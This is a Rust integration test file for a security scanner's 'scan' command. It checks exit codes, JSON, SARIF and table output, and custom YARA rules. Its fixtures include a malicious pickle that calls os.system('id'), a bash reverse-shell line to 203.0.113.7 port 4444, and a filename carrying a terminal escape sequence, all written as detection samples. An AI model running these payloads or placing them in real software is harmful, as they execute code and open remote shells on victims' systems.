//! `picketctl scan` as a program: exit codes, the JSON contract, SARIF and what a person sees.

#![expect(clippy::unwrap_used, reason = "a helper that fails is a test that fails")]

use std::fs;
use std::io::Write as _;
use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::Value;

const EVIL: &[u8] = b"cos\nsystem\n(S'id'\ntR.";
const UNKNOWN: &[u8] = b"c__main__\nNet\n.";

fn scan(arguments: &[&str], stdin: &[u8]) -> (i32, String, String) {
    let mut child = Command::new(env!("CARGO_BIN_EXE_picketctl"))
        .arg("scan")
        .args(arguments)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(stdin).unwrap();
    let ran = child.wait_with_output().unwrap();
    (ran.status.code().unwrap(), String::from_utf8(ran.stdout).unwrap(), String::from_utf8(ran.stderr).unwrap())
}

fn write(folder: &Path, name: &str, bytes: &[u8]) -> String {
    let path = folder.join(name);
    fs::write(&path, bytes).unwrap();
    path.to_str().unwrap().to_owned()
}

#[test]
fn exit_codes_say_found_clean_and_not_finished() {
    let folder = tempfile::tempdir().unwrap();
    let (evil, clean) = (write(folder.path(), "evil.pkl", EVIL), write(folder.path(), "clean.pkl", b"\x80\x02N."));
    let (unread, small) = (write(folder.path(), "unread.7z", b"7z\xbc\xaf\x27\x1c\0\x04"), write(folder.path(), "small.pkl", UNKNOWN));
    assert_eq!(scan(&[&clean], b"").0, 0);
    assert_eq!(scan(&[&evil, &clean, &unread], b"").0, 1);
    assert_eq!(scan(&[&clean, &unread], b"").0, 2);
    assert_eq!(scan(&["/nowhere/at/all"], b"").0, 2);
    assert_eq!(scan(&[], b"").0, 2, "usage");
    assert_eq!(scan(&[&small], b"").0, 1);
    assert_eq!(scan(&[&small, "--fail-on", "high"], b"").0, 0);
    assert_eq!(scan(&[&evil, "--fail-on", "high"], b"").0, 1);
    assert_eq!(scan(&["-"], EVIL).0, 1);
}

#[test]
fn json_is_one_object_a_file_with_the_promised_fields() {
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), "a.pkl", EVIL);
    write(folder.path(), "b.pkl", b"\x80\x02N.");
    write(folder.path(), "c.7z", b"7z\xbc\xaf\x27\x1c\0\x04");
    let (code, text, _) = scan(&[folder.path().to_str().unwrap(), "--format", "json"], b"");
    let files: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!((code, files.len()), (1, 3));
    for file in &files {
        for field in ["path", "size", "sha256", "format", "verdict", "findings", "completeness"] {
            assert!(file.get(field).is_some(), "{field} is missing in {file}");
        }
    }
    assert_eq!((&files[0]["verdict"], &files[1]["verdict"], &files[2]["verdict"]), (&"malicious".into(), &"clean".into(), &"unscannable".into()));
    assert_eq!((&files[1]["completeness"], &files[2]["completeness"]), (&"full".into(), &"partial".into()));
    assert!(files[2]["incomplete"][0].as_str().unwrap().contains("7z"));
    let finding = &files[0]["findings"][0];
    for field in ["rule_id", "title", "severity", "techniques", "evidence", "explanation"] {
        assert!(finding.get(field).is_some(), "{field} is missing in {finding}");
    }
    assert_eq!(finding["evidence"]["value"], "os.system('id')");
    assert_eq!(files[0]["sha256"].as_str().unwrap().len(), 64);
}

#[test]
fn sarif_and_table() {
    let folder = tempfile::tempdir().unwrap();
    let evil = write(folder.path(), "evil\u{1b}[2J.pkl", EVIL);
    let (code, text, _) = scan(&[&evil, "--format", "sarif"], b"");
    let log: Value = serde_json::from_str(&text).unwrap();
    assert_eq!((code, &log["version"], &log["runs"][0]["results"][0]["ruleId"]), (1, &"2.1.0".into(), &"PICKET-PKL-001".into()));
    let (_, text, notes) = scan(&[&evil], b"");
    assert!(text.contains("MALICIOUS") && text.contains("os.system('id')") && !text.contains('\u{1b}'), "{text}");
    assert!(notes.contains("1 malicious"), "{notes}");
}

#[test]
fn sarif_is_for_scans() {
    let ran = Command::new(env!("CARGO_BIN_EXE_picketctl")).args(["whoami", "--format", "sarif"]).output().unwrap();
    assert_eq!(ran.status.code(), Some(2));
}

#[test]
fn yara_rules_are_applied_beside_the_built_in_ones() {
    let folder = tempfile::tempdir().unwrap();
    let (rules, files) = (folder.path().join("rules"), folder.path().join("files"));
    fs::create_dir(&rules).unwrap();
    fs::create_dir(&files).unwrap();
    write(&rules, "mine.yar", b"rule mark { meta: severity = \"high\" strings: $a = \"the-mark\" condition: $a }");
    let marked = write(&files, "notes.txt", b"words\nthe-mark\n");
    let shell = write(&files, "run.sh", b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n");
    let rules = rules.to_str().unwrap();
    assert_eq!(scan(&[&marked], b"").0, 0);
    let (code, text, _) = scan(&[&marked, "--yara", rules, "--format", "json"], b"");
    let file: Value = serde_json::from_str(&text).unwrap();
    let finding = &file["findings"][0];
    assert_eq!(
        (code, &finding["rule_id"], &finding["evidence"]["offset"], &finding["evidence"]["value"]),
        (1, &"YARA:mine.mark".into(), &6.into(), &"the-mark".into())
    );
    assert_eq!((&file["rules_applied"]["regions"], file["rules_applied"]["identity"].as_str().unwrap().len()), (&1.into(), 64));
    // The built-in pack is on, and can be turned off.
    let (code, text, _) = scan(&[&shell, "--format", "json"], b"");
    let file: Value = serde_json::from_str(&text).unwrap();
    assert_eq!((code, &file["findings"][0]["rule_id"], &file["verdict"]), (1, &"PICKET-YAR-030".into(), &"malicious".into()));
    assert_eq!(scan(&[&shell, "--no-yara"], b"").0, 0);
    // A rule of a pack is in the list of the SARIF log that its result points into.
    let (_, text, _) = scan(&[&marked, "--yara", rules, "--format", "sarif"], b"");
    let log: Value = serde_json::from_str(&text).unwrap();
    let run = &log["runs"][0];
    let index = usize::try_from(run["results"][0]["ruleIndex"].as_u64().unwrap()).unwrap();
    assert_eq!(run["tool"]["driver"]["rules"][index]["id"], "YARA:mine.mark");
}

#[test]
fn errors_in_rules_are_told_with_their_places_and_nothing_is_scanned() {
    let folder = tempfile::tempdir().unwrap();
    let clean = write(folder.path(), "clean.pkl", b"\x80\x02N.");
    write(folder.path(), "a.yar", b"rule one {\n condition: $missing\n}\n");
    write(folder.path(), "b.yar", b"rule two {\n condition: nothing\n}\n");
    let (code, out, told) = scan(&[&clean, "--yara", folder.path().to_str().unwrap()], b"");
    assert_eq!((code, out.as_str()), (2, ""));
    assert!(told.contains("a.yar:2:13: ") && told.contains("b.yar:2:13: "), "{told}");
    let empty = tempfile::tempdir().unwrap();
    let (code, _, told) = scan(&[&clean, "--yara", empty.path().to_str().unwrap()], b"");
    assert!(code == 2 && told.contains("no .yar"), "{told}");
}
